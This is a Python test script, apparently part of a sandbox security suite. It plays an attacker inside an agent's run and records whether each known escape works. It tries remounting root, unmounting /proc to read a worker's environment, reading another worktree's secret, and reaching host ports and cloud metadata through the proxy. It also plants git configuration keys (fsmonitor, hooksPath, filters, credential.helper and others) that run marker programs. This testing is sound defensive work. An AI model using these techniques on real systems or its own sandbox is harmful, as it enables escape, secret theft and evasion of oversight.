"""An attacker in a run (issue "Walls"): it tries each escape the red team found, records what became
of each in `attack-report.json` in its worktree, and leaves planted in its worktree (a nested
repository, committed as a gitlink) every configuration that would make the service's own git run a
program. Each planted program, run anywhere it can write, leaves `<markers>/<key>`; inside the sandbox
that folder is read-only, so a marker proves it ran outside.

Arguments: a JSON object: worker_pid, data_dir, worktree_base, other_secret, outside_file, markers,
loopback_ports ({name: port}), model_api (a URL that must answer), refused_host."""

import http.client
import json
import os
import socket
import subprocess
import sys
import urllib.parse
import urllib.request
from pathlib import Path

given = json.loads(sys.argv[1])
sys.stdin.read()
report: dict[str, str] = {}
PLANTED = ("core.fsmonitor", "core.hooksPath", "diff.external", "filter.evil.clean", "filter.evil.smudge",
           "filter.evil.process", "diff.evil.textconv", "core.sshCommand", "core.pager", "credential.helper",
           "core.askPass", "core.editor")


def attempt(name: str, action) -> None:
    try:
        report[name] = f"succeeded: {action()!r}"[:300]
    except Exception as error:  # noqa: BLE001 - what failed is what it records
        report[name] = f"failed: {type(error).__name__}: {error}"[:300]


def run(*argv: str) -> str:
    result = subprocess.run(argv, capture_output=True, text=True)
    if result.returncode != 0:
        raise OSError(f"{argv[0]} exit {result.returncode}: {result.stderr.strip()[:120]}")
    return result.stdout


def capabilities() -> str:
    status = Path("/proc/self/status").read_text()
    return " ".join(line for line in status.splitlines() if line.startswith(("CapEff", "CapBnd")))


def through_proxy(url: str) -> str:
    """`url` asked of the sandbox's proxy, whatever NO_PROXY says."""
    proxy = urllib.parse.urlsplit(os.environ["HTTP_PROXY"])
    connection = http.client.HTTPConnection(proxy.hostname, proxy.port, timeout=10)
    connection.request("GET", url)
    answer = connection.getresponse()
    if answer.status != 200:
        raise OSError(f"HTTP {answer.status}: {answer.read().decode()[:150]}")
    return answer.read().decode()[:100]


def connect(port: int) -> str:
    with socket.create_connection(("127.0.0.1", port), timeout=5):
        return "connected"


def plant(worktree: Path) -> None:
    """A nested repository whose configuration names a program for every key git might run one for."""
    nested = worktree / "nested"
    run("git", "init", "-q", str(nested))
    mine = ["git", "-C", str(nested), "-c", "core.fsmonitor=false", "-c", "core.hooksPath=/dev/null"]
    programs = nested / ".planted"
    programs.mkdir()
    for key in (*PLANTED, "hook"):
        program = programs / key
        program.write_text(f"#!/bin/sh\ntouch {given['markers']}/{key} 2>/dev/null\ncat\n")
        program.chmod(0o755)
    hooks = programs / "hooks"
    hooks.mkdir()
    for hook in ("pre-commit", "post-commit", "post-checkout", "pre-push", "reference-transaction",
                 "post-index-change", "pre-auto-gc", "post-rewrite", "fsmonitor-watchman"):
        (hooks / hook).symlink_to(programs / "hook")
    for key in PLANTED:
        value = str(hooks) if key == "core.hooksPath" else str(programs / key)
        run("git", "-C", str(nested), "config", key, value)
    (nested / ".gitattributes").write_text("* filter=evil diff=evil\n")
    (nested / "file.txt").write_text("nested\n")
    run(*mine, "add", "-A")
    run(*mine, "-c", "user.name=a", "-c", "user.email=a@a", "commit", "-q", "-m", "nested")
    (nested / "file.txt").write_text("dirty, so that a status would look inside\n")
    # The worktree's own config is the run's copy, dropped after it: planted there too, to check.
    for key in ("core.fsmonitor", "core.hooksPath"):
        run("git", "config", key, str(programs / key))
    (worktree / ".gitattributes").write_text("* filter=evil\n")
    run("git", "-c", "core.fsmonitor=false", "add", "nested", ".gitattributes")
    run("git", "-c", "core.fsmonitor=false", "-c", "core.hooksPath=/dev/null", "-c", "user.name=a",
        "-c", "user.email=a@a", "commit", "-q", "-m", "attacker's plants")


attempt("capabilities", capabilities)
attempt("remount / writable, then write outside", lambda: (
    run("mount", "-o", "remount,rw", "/"), Path(given["outside_file"]).write_text("escaped")))
attempt("unmount /proc, then read the worker's environment", lambda: (
    run("umount", "-l", "/proc"), Path(f"/proc/{given['worker_pid']}/environ").read_bytes()[:50]))
attempt("unmount the data folder, then read it", lambda: (
    run("umount", "-l", given["data_dir"]), sorted(os.listdir(given["data_dir"]))))
attempt("unmount the worktrees, then read another's file", lambda: (
    run("umount", "-l", given["worktree_base"]), Path(given["other_secret"]).read_text()))
for name, port in given["loopback_ports"].items():
    attempt(f"connect to the host's {name}", lambda port=port: connect(port))
    attempt(f"ask the proxy for the host's {name}", lambda port=port: through_proxy(f"http://127.0.0.1:{port}/"))
attempt("ask the proxy for cloud metadata", lambda: through_proxy("http://169.254.169.254/latest/meta-data/"))
attempt("reach the model API", lambda: urllib.request.urlopen(given["model_api"], timeout=10).read().decode()[:100])
attempt("reach a host not on the list", lambda: through_proxy(f"http://{given['refused_host']}/"))
attempt("plant programs for the service's git", lambda: plant(Path.cwd()))
Path("attack-report.json").write_text(json.dumps(report, indent=1))
print("done")
